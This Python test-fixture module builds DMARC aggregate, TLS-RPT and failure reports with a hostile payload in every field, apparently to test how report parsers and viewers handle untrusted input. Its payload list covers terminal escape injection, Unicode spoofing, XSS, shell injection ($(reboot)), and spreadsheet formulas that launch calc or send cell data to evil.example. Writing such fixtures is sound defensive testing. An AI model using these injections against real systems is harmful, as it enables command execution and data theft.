"""Reports whose every text field holds something that is meant to do harm.

payloads() gives (name, octets): for terminals, for spreadsheets, for browsers, and
text that is none.  aggregate(), tls() and failure() make a report with one payload
in every field, each with a mark of its field behind it; they give the octets and
the marks.
"""
import json

ESC, CSI, BEL, ST = b'\x1b', b'\x1b[', b'\x07', b'\x1b\\'


def utf8(*points):
    return ''.join(map(chr, points)).encode()


def payloads():
    # Terminals: ECMA-48 and what emulators make of it.
    yield 'colour', CSI + b'31mred'
    yield 'clear screen', CSI + b'2J' + CSI + b'H'
    yield 'cursor up and over', CSI + b'1A' + CSI + b'2Kall is well'
    yield 'cursor report', CSI + b'6n'
    yield 'window title', ESC + b']0;owned' + BEL
    yield 'title, ended by ST', ESC + b']2;owned' + ST
    yield 'title asked for', CSI + b'21t'
    yield 'clipboard', ESC + b']52;c;ZWNobyBvd25lZA==' + BEL
    yield 'hyperlink', ESC + b']8;;https://evil.example/' + BEL + b'bank' + ESC + b']8;;' + BEL
    yield 'answerback DCS', ESC + b'P$q"p' + ST
    yield 'reset', ESC + b'c'
    yield 'line drawing', ESC + b'(0' + b'\x0e'
    yield 'application keys', CSI + b'?1049h' + CSI + b'?25l'
    yield 'escape alone', ESC
    yield 'escape at the end of a text', b'x' + ESC
    yield 'backspaces', b'denied' + b'\x08' * 6 + b'passed'
    yield 'carriage return', b'fail\rpass'
    yield 'vertical tab and form feed', b'a\x0bb\x0cc'
    yield 'bell', BEL
    yield 'delete', b'a\x7fb'
    yield 'C1 CSI', utf8(0x9b) + b'31mred'
    yield 'C1 OSC', utf8(0x9d) + b'0;owned' + utf8(0x9c)
    yield 'C1 next line', b'a' + utf8(0x85) + b'b'
    yield 'C1 as a single octet', b'\x9b31mred'
    yield 'line and paragraph separators', utf8(0x2028) + b'a' + utf8(0x2029) + b'b'
    # What one sees is not what is there.
    yield 'right to left override', utf8(0x202e) + b'moc.elpmaxe'
    yield 'isolates', utf8(0x2066) + b'a' + utf8(0x2069, 0x2067) + b'b'
    yield 'zero width', b'pay' + utf8(0x200b, 0x200d, 0xfeff) + b'pal.example'
    yield 'soft hyphen and Hangul filler', b'pay' + utf8(0xad, 0x3164) + b'pal'
    yield 'tags', b'safe' + utf8(0xe0001, 0xe0041, 0xe007f)
    yield 'interlinear and invisible operators', utf8(0xfff9, 0x2061, 0x1d173) + b'x'
    # Spreadsheets.
    yield 'formula', b"=cmd|' /C calc'!A0"
    yield 'formula in quotes', b'"=1+1"'
    yield 'formula behind a quote and a comma', b'x","=1+1'
    yield 'formula behind a semicolon', b'x;=1+1'
    yield 'formula behind a tab', b'\t=1+1'
    yield 'formula behind a line feed', b'x\r\n=1+1,2,3'
    yield 'formula behind blanks', b'  =1+1'
    yield 'plus', b'+1+cmd|calc!A0'
    yield 'minus', b'-2+3+cmd|calc!A0'
    yield 'at', b'@SUM(1+1)*cmd|calc!A0'
    yield 'wide equals', utf8(0xff1d) + b'1+1'
    yield 'wide plus, minus, at', utf8(0xff0b, 0xff0d, 0xff20)
    yield 'hyperlink formula', b'=HYPERLINK("https://evil.example/?"&A1,"ok")'
    yield 'data exchange', b'=DDE("cmd";"/C calc";"x")'
    yield 'byte order mark and formula', utf8(0xfeff) + b'=1+1'
    # Browsers, shells, JSON.
    yield 'script', b'<script>alert(1)</script>'
    yield 'image', b'"><img src=x onerror=alert(1)>'
    yield 'svg', b"'><svg/onload=alert(1)>"
    yield 'script address', b'javascript:alert(1)'
    yield 'end of a script', b'</script><!--'
    yield 'quotes', b"\"'`\\"
    yield 'JSON broken out of', b'","x":{"y":["'
    yield 'escapes of JSON', b'\\u001b[31m\\"'
    yield 'shell', b'$(reboot)`reboot`;reboot'
    yield 'format', b'%s%n%x%%'
    # Text that is none.
    yield 'NUL', b'a\x00b'
    yield 'overlong slash', b'a\xc0\xafb'
    yield 'overlong escape', b'\xc0\x9b[31m'
    yield 'lone continuation', b'a\x80\xbfb'
    yield 'cut sequence', b'a\xe2\x82'
    yield 'surrogate', b'a\xed\xa0\x80b'
    yield 'beyond Unicode', b'a\xf4\x90\x80\x80b'
    yield 'octets that never stand in UTF-8', b'a\xfe\xffb'
    yield 'very long', b'w' * 3000


class Marks:
    """Fields of one report, each with its mark."""

    def __init__(self, payload, letter):
        self.payload, self.letter, self.all = payload, letter, {}

    def __call__(self, field):
        mark = f'zq{self.letter}{len(self.all):02}qz'
        assert field not in self.all, field
        self.all[field] = mark
        return self.payload + mark.encode()


def xml(octets):
    return octets.replace(b'&', b'&amp;').replace(b'<', b'&lt;').replace(b'>', b'&gt;')


def element(name, octets):
    return b'<' + name.encode() + b'>' + octets + b'</' + name.encode() + b'>'


def elements(marks, names, where=''):
    return b''.join(element(n, xml(marks(where + n))) for n in names)


def aggregate(payload, domain, day, ident, source=None):
    """A report on `domain`, or, when it is None, on a domain that is a payload."""
    marks = Marks(payload, 'A' if domain else 'B')
    date = f'<begin>{day * 86400}</begin><end>{day * 86400 + 86399}</end>'.encode()
    named = element('domain', domain.encode() if domain else xml(marks('policy domain')))
    if source is None:
        source = xml(marks('source_ip'))
    return element('feedback', b''.join([
        elements(marks, ['version']),
        element('report_metadata', elements(
            marks, ['org_name', 'email', 'extra_contact_info']) +
            element('report_id', xml(marks('report_id')) + ident.encode()) +
            element('date_range', date) + elements(marks, ['error', 'generator'])),
        element('policy_published', named + elements(
            marks, ['adkim', 'aspf', 'p', 'sp', 'np', 'pct', 'fo', 'testing',
                    'discovery_method'])),
        element('record', b''.join([
            element('row', element('source_ip', source) + b'<count>7</count>' +
                    element('policy_evaluated',
                            elements(marks, ['disposition', 'dkim', 'spf'], 'evaluated ') +
                            element('reason', elements(marks, ['type', 'comment'])))),
            element('identifiers', elements(
                marks, ['header_from', 'envelope_from', 'envelope_to'])),
            element('auth_results', element('dkim', elements(
                marks, ['domain', 'selector', 'result', 'human_result'], 'dkim ')) +
                element('spf', elements(
                    marks, ['domain', 'scope', 'result', 'human_result'], 'spf ')))])),
        vouched(marks, domain or 'a.example', source),
    ])), marks.all


def vouched(marks, domain, source):
    """A row that passes by the word of a payload."""
    return element('record', b''.join([
        element('row', element('source_ip', source) + b'<count>9</count>' + element(
            'policy_evaluated', b'<disposition>none</disposition><dkim>fail</dkim>'
            b'<spf>fail</spf>')),
        element('identifiers', element('header_from', domain.encode())),
        element('auth_results', element('dkim', elements(
            marks, ['domain', 'selector'], 'vouching dkim ') + b'<result>pass</result>') +
            element('spf', elements(marks, ['domain'], 'vouching spf ') +
                    b'<result>pass</result>'))]))


def tls(payload, day, ident):
    """JSON of octets: strings are put in as they are, but for quotes and C0."""
    marks = Marks(payload, 'T')

    def text(field, more=''):
        octets = marks(field) + more.encode()
        out = bytearray(b'"')
        for octet in octets:
            if octet < 0x20 or octet in b'"\\':
                out += b'\\u%04x' % octet
            else:
                out.append(octet)
        return bytes(out) + b'"'

    def members(**named):
        return b'{' + b','.join(
            json.dumps(k.replace('_', '-')).encode() + b':' + v for k, v in named.items()) + b'}'
    when = [f'"{date(day)}T{t}Z"'.encode() for t in ('00:00:00', '23:59:59')]
    return members(
        organization_name=text('organization-name'), contact_info=text('contact-info'),
        date_range=members(start_datetime=when[0], end_datetime=when[1]),
        report_id=text('report-id', ident),
        policies=b'[' + members(
            policy=members(policy_type=text('policy-type'), policy_domain=text('policy-domain'),
                           policy_string=b'[' + text('policy-string') + b']',
                           mx_host=b'[' + text('mx-host') + b']'),
            summary=b'{"total-successful-session-count":3,"total-failure-session-count":2}',
            failure_details=b'[' + members(
                result_type=text('result-type'), sending_mta_ip=text('sending-mta-ip'),
                receiving_ip=text('receiving-ip'),
                receiving_mx_hostname=text('receiving-mx-hostname'),
                receiving_mx_helo=text('receiving-mx-helo'), failed_session_count=b'2',
                additional_information=text('additional-information'),
                failure_reason_code=text('failure-reason-code')) + b']') + b']'), marks.all


def date(day):
    import datetime
    return datetime.date.fromordinal(day + 719163).isoformat()


def failure(payload, ident):
    marks = Marks(payload, 'F')

    def field(name, where=''):
        # A field ends with its line; what is folded belongs to it.
        return name.encode() + b': ' + marks(where + name).replace(
            b'\r\n', b'\n').replace(b'\r', b' ').replace(b'\n', b' ') + b'\n'
    names = ['Feedback-Type', 'User-Agent', 'Version', 'Auth-Failure', 'Delivery-Result',
             'Identity-Alignment', 'Source-IP', 'Reported-Domain', 'Reporting-MTA',
             'Arrival-Date', 'Original-Mail-From', 'Original-Rcpt-To', 'DKIM-Domain',
             'DKIM-Identity', 'DKIM-Selector', 'SPF-DNS', 'Authentication-Results']
    return b''.join([
        field('From', 'report '), field('Date', 'report '), field('Subject', 'report '),
        b'Message-ID: <' + ident.encode() + marks('report Message-ID').replace(
            b'\r\n', b' ').replace(b'\r', b' ').replace(b'\n', b' ') + b'>\n',
        b'MIME-Version: 1.0\nContent-Type: multipart/report;'
        b' report-type=feedback-report; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n'
        b'--b\nContent-Type: message/feedback-report\n\n',
        *[field(n) for n in names],
        b'\n--b\nContent-Type: text/rfc822-headers\n\n',
        field('From'), field('Subject'), field('Message-ID'), b'--b--\n']), marks.all
